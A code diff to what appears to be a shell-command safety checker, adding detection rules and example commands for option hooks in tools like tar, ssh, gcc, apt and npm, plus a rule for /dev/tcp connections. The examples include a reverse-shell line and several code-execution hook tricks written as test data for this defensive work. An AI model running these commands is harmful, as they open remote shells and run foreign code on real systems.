@@ -1,13 +1,14 @@
 // Rules about code that is not in the text, or that the text hides.
 import type { SimpleCommand } from '../syntax/command.ts';
 import { hasSubscriptCode } from '../syntax/late-evaluation.ts';
+import { isShell } from '../syntax/inner.ts';
 import { hasGlob, hasUnknown, PLAIN } from '../syntax/marks.ts';
 import { parseArguments } from '../syntax/options.ts';
 import { runsDownload } from './downloads.ts';
 import type { Rule } from './rule.ts';
 
 /** Programs that can be told to run another one. */
-const HOOKED = ['tar', 'gtar', 'bsdtar', 'rg', 'ssh', 'scp', 'sftp', 'go', 'zip', 'man', 'sort', 'rsync', 'tcpdump', 'gdb', 'lldb', 'make', 'gmake', 'nmap', 'socat', 'nc', 'ncat', 'netcat', 'cargo', 'psql', 'mysql', 'sqlite3', 'openssl', 'journalctl', 'less', 'xterm', 'gnome-terminal', 'screen', 'tmux'];
+const HOOKED = ['tar', 'gtar', 'bsdtar', 'rg', 'ssh', 'scp', 'sftp', 'go', 'zip', 'man', 'sort', 'rsync', 'tcpdump', 'gdb', 'lldb', 'make', 'gmake', 'nmap', 'socat', 'nc', 'ncat', 'netcat', 'cargo', 'psql', 'mysql', 'sqlite3', 'openssl', 'journalctl', 'less', 'xterm', 'gnome-terminal', 'screen', 'tmux', 'apt', 'apt-get', 'npm', 'rustc', 'gcc', 'g++', 'cc', 'clang', 'clang++', 'wget', 'openvpn', 'ssh-keygen', 'ssh-add'];
 /** They read a subscript, `a[…]`, and what stands in it, from their arguments. */
 const EVALUATING = ['printf', 'read', 'let', 'declare', 'typeset', 'local', 'export', 'readonly', 'unset', 'mapfile', 'readarray', 'wait', 'getopts', 'test', '[', '[['];
 
@@ -30,8 +31,14 @@ export const CODE_RULES: readonly Rule[] = [
   },
   {
     id: 'unknown-code', class: 'dangerous', isGrave: true, reason: 'runs text that is only known when it runs: write out what shall run', facts: ['unknown-code'],
-    examples: ['eval "$x"', 'bash -c "$CMD"', 'cat x | sh', 'bash <(./gen)', 'ssh host "$cmd"', 'sh -c "make $TARGET"'],
-    notExamples: ['bash x.sh', 'bash -c "echo hi"', 'eval "$(ssh-agent -s)"', 'cat x | sh_lint', 'bash <<E\necho hi\nE'],
+    examples: ['eval "$x"', 'bash -c "$CMD"', 'cat x | sh', 'bash <(./gen)', 'sh < <(cat x)', 'kubectl exec p -- cat f | sh', 'bash /dev/fd/3 3<<< "$x"', 'ssh host "$cmd"', 'sh -c "make $TARGET"'],
+    notExamples: ['bash x.sh', 'bash -c "echo hi"', 'eval "$(ssh-agent -s)"', 'source <(kubectl completion bash)', 'bash < <(echo ls)', 'cat x | sh_lint', 'bash <<E\necho hi\nE'],
+  },
+  {
+    id: 'shell-connection', class: 'dangerous', isGrave: true, reason: 'opens a connection in both directions, or gives one to a shell: use a program made for it, such as nc',
+    match: ({ redirections, program }) => redirections.some(({ operator, targets }) => (operator === '<>' || isShell(program)) && targets.some((target) => /^\/dev\/(?:tcp|udp)\//.test(target))),
+    examples: ['exec 3<>/dev/tcp/a/80', 'bash -i >& /dev/tcp/h/1 0>&1', 'exec 5<>/dev/udp/h/1', 'cat <>/dev/tcp/h/1', 'sh > /dev/tcp/h/1'],
+    notExamples: ['(echo > /dev/tcp/localhost/80) && echo up', "timeout 1 bash -c '</dev/tcp/localhost/80'", 'cat < /dev/tcp/localhost/80', 'nc -z h 80', 'exec 3<>log'],
   },
   {
     id: 'unknown-program', class: 'dangerous', isGrave: true, reason: 'which program runs is only known when it runs: write out its name',
@@ -53,19 +60,19 @@ export const CODE_RULES: readonly Rule[] = [
   {
     id: 'program-hook', class: 'dangerous', reason: 'an option makes this program run another one: run that one by itself',
     programs: HOOKED, match: (command) => hasHook(command),
-    examples: ['tar cf /dev/null /tmp --checkpoint=1 --checkpoint-action=exec=/tmp/e.sh', 'rg --pre ./x y', 'ssh -o ProxyCommand=./x host', 'go test -exec ./x', 'tar xf a --to-command=./x', 'zip a b -T -TT ./x', 'man -P ./x ls'],
-    notExamples: ['tar xf a.tgz --checkpoint=100 --checkpoint-action=dot', 'tar czf out.tgz src', 'rg pre .', "ssh host 'df -h'", 'go test ./...'],
+    examples: ['tar cf /dev/null /tmp --checkpoint=1 --checkpoint-action=exec=/tmp/e.sh', 'rg --pre ./x y', 'ssh -o ProxyCommand=./x host', 'go test -exec ./x', 'tar xf a --to-command=./x', 'zip a b -T -TT ./x', 'man -P ./x ls', "gdb -ex 'python import os' ./x", 'apt -o DPkg::Pre-Invoke::=./x list', 'npm --script-shell=./x run y', 'gcc -fplugin=./x.so a.c', 'go vet -vettool=./x', 'ssh -F ./cfg h', 'ssh-keygen -D ./x.so'],
+    notExamples: ['tar xf a.tgz --checkpoint=100 --checkpoint-action=dot', 'tar czf out.tgz src', 'rg pre .', "ssh host 'df -h'", 'go test ./...', 'gdb -batch -ex bt ./x core', 'gdb -ex run --args ./x', 'apt -o Acquire::Retries=3 update', 'gcc -B/usr/lib -o x x.c', 'ssh -F ~/.ssh/config h', 'ssh-add -l', 'rustc -C opt-level=3 a.rs'],
   },
   {
     id: 'shell-hook', class: 'dangerous', reason: 'hooks code into this shell for later, or loads foreign code into it',
-    programs: ['enable', 'bind', 'complete', 'zmodload', 'hash', 'shopt', 'set', 'history', 'fc'], match: (command) => hooksShell(command),
-    examples: ['enable -f ./x.so x', "bind -x '\"\\C-x\": ls'", 'complete -C ./x y', 'hash -p /tmp/x ls', 'set -o histexpand', 'fc -s'],
-    notExamples: ['enable -n test', 'bind -l', 'complete -F _x y', 'hash -r', 'shopt -s globstar', 'set -euo pipefail', 'history | tail'],
+    programs: ['enable', 'bind', 'complete', 'zmodload', 'hash', 'shopt', 'set', 'history', 'fc', 'print'], match: (command) => hooksShell(command),
+    examples: ['enable -f ./x.so x', "bind -x '\"\\C-x\": ls'", 'complete -C ./x y', 'hash -p /tmp/x ls', 'set -o histexpand', 'fc -s', 'hash ls=/bin/rm', 'print -z ls', "print -P '$(id)'"],
+    notExamples: ['enable -n test', 'bind -l', 'complete -F _x y', 'hash -r', 'shopt -s globstar', 'set -euo pipefail', 'history | tail', 'print -l a', "print -P '%F{red}x'", 'hash -d x=/tmp'],
   },
   {
     id: 'history-expansion', class: 'dangerous', isGrave: true, reason: 'stands for an earlier command, which is not in this text: write it out',
-    match: ({ path, text, origin }) => origin.length === 0 && /^!(?:!|-?\d|\?|[A-Za-z])/.test(path) && /^\s*!/.test(text),
-    examples: ['!!', '!rm', '!-2', '!5', '!ls:p'],
+    match: ({ path, text, origin }) => origin.length === 0 && /^!(?:!|-?\d|\?|[A-Za-z])|^\^/.test(path) && /^\s*[!^]/.test(text),
+    examples: ['!!', '!rm', '!-2', '!5', '!ls:p', '^ls^id'],
     notExamples: ['! ls', '[ ! -f x ]', 'echo hi!', "echo '!!'", '! grep -q x f'],
   },
   {
@@ -104,14 +111,22 @@ function hasHook({ program, args }: SimpleCommand): boolean {
     case 'tar': case 'gtar': case 'bsdtar':
       return has(/^--(?:checkpoint-action=e|to-c|use-compress-program=(?!(?:gzip|pigz|bzip2|xz|zstd|lz4)\b)|rsh-c|info-s|new-vol)|^-[a-zA-Z]*F$/) || (args.includes('--checkpoint-action') && /^e/.test(valueOf(/^--checkpoint-action$/) ?? '')) || (args.includes('-I') && !/^(?:gzip|pigz|bzip2|xz|zstd|lz4|lzip|lbzip2|pixz|plzip)\b/.test(valueOf(/^-I$/) ?? 'gzip'));
     case 'rg': return has(/^--pre(?:=|$)|^--hostname-bin/);
-    case 'ssh': case 'scp': case 'sftp': return has(/^(?:-o)?\s*(?:ProxyCommand|LocalCommand|KnownHostsCommand|PermitLocalCommand)[ =]/i) || (program !== 'ssh' && has(/^-S/));
-    case 'go': return has(/^--?(?:exec|toolexec)(?:=|$)/);
+    case 'ssh': case 'scp': case 'sftp': return has(/^(?:-o)?\s*(?:ProxyCommand|LocalCommand|KnownHostsCommand|PermitLocalCommand|PKCS11Provider|SecurityKeyProvider)[ =]/i) || (program !== 'ssh' && has(/^-S/)) || (program === 'ssh' && has(/^-I/)) || args.some((arg, index) => /^-[a-zA-Z]*F$/.test(arg) && !/\/\.ssh\/|^\/etc\/ssh\/|^\/dev\/null$|^none$/.test(args[index + 1] ?? ''));
+    case 'go': return has(/^--?(?:exec|toolexec|vettool)(?:=|$)/);
     case 'zip': return has(/^-(?:TT|-unzip-command)/);
     case 'man': return has(/^(?:-P|--pager|-H|--html)/) && !/^(?:cat|less|more)?$/.test(valueOf(/^(?:-P|--pager)$/) ?? '');
     case 'sort': return has(/^--compress-prog/);
     case 'rsync': return has(/^--rsync-path/) || (has(/^(?:-[a-zA-Z]*e$|--rsh)/) && !/^ssh(?:\s+-[pi]\s*\S+)*$/.test(valueOf(/^(?:-[a-zA-Z]*e|--rsh)$/) ?? args.find((arg) => arg.startsWith('--rsh='))?.slice(6) ?? ''));
     case 'tcpdump': return has(/^-[a-zA-Z]*z|^--postrotate/);
-    case 'gdb': case 'lldb': return has(/^(?:-ex|-iex|-eval-command|--eval-command|-o|--one-line|-x|--command)/);
+    case 'gdb': case 'lldb': return has(/^(?:-x|--?command|--?source|-s)(?:=|$)/) || has(/^(?:--?(?:ex|iex|eval-command)=)?\s*(?:!|shell\b|pipe\b|\||py(?:thon)?\b|guile\b|source\b|compile\b|make\b|script\b|command\s+script|platform\s+shell|(?:call|print|p|expr?|expression)\b.*\()/);
+    case 'apt': case 'apt-get': return has(/Invoke|::Pager|Post-?Install|Hooks?::|Dpkg::Path|::Options::.*-I/i);
+    case 'npm': return has(/^--(?:script-shell|node-options|shell|editor|viewer|git)(?:=|$)/) || (args[0] === 'config' && args[1] === 'set' && /^(?:script-shell|shell|editor|git|viewer|node-options)(?:=|$)/.test(args[2] ?? ''));
+    case 'rustc': return has(/linker=|^-Zunpretty|runner/);
+    case 'gcc': case 'g++': case 'cc': case 'clang': case 'clang++': return has(/^-(?:fplugin=|wrapper$|specs=|Xclang$|B(?!\/(?:usr|lib|opt)\b))/);
+    case 'wget': return has(/^--use-askpass|use_askpass/);
+    case 'openvpn': return has(/^--(?:up|down|route-up|client-connect|tls-verify|ipchange|learn-address|plugin|auth-user-pass-verify)$/);
+    case 'ssh-keygen': return has(/^-D/) || has(/^-w/);
+    case 'ssh-add': return has(/^-s/);
     case 'make': case 'gmake': return has(/^--eval|^SHELL=/);
     case 'nmap': return has(/^--script(?:=|$)/) && has(/[./]/);
     case 'socat': return has(/(?:exec|system|shell):/i);
@@ -130,7 +145,9 @@ function hooksShell({ program, args }: SimpleCommand): boolean {
     case 'enable': return args.some((arg) => /^-[a-z]*f/.test(arg));
     case 'bind': return args.some((arg) => /^-[a-z]*[xf]/.test(arg) || /:.*(?:\\n|\\C-m|\\r)/i.test(arg));
     case 'complete': return args.some((arg) => /^-[a-zA-Z]*C/.test(arg));
-    case 'hash': return args.includes('-p');
+    case 'hash': return args.includes('-p') || (!args.includes('-d') && args.some((arg) => arg.includes('=')));
+    // zsh: onto the line that is edited, into the history, or expanded as a prompt
+    case 'print': return args.some((arg) => /^-[a-zA-Z]*[zsS]/.test(arg)) || (args.some((arg) => /^-[a-zA-Z]*P/.test(arg)) && args.some((arg) => /\$\(|`/.test(arg)));
     case 'shopt': return args.includes('histexpand');
     case 'set': return args.some((arg) => arg === 'histexpand') && args.includes('-o') || args.some((arg) => /^-[a-z]*H/.test(arg));
     case 'fc': return !args.some((arg) => /^-[a-z]*l/.test(arg));
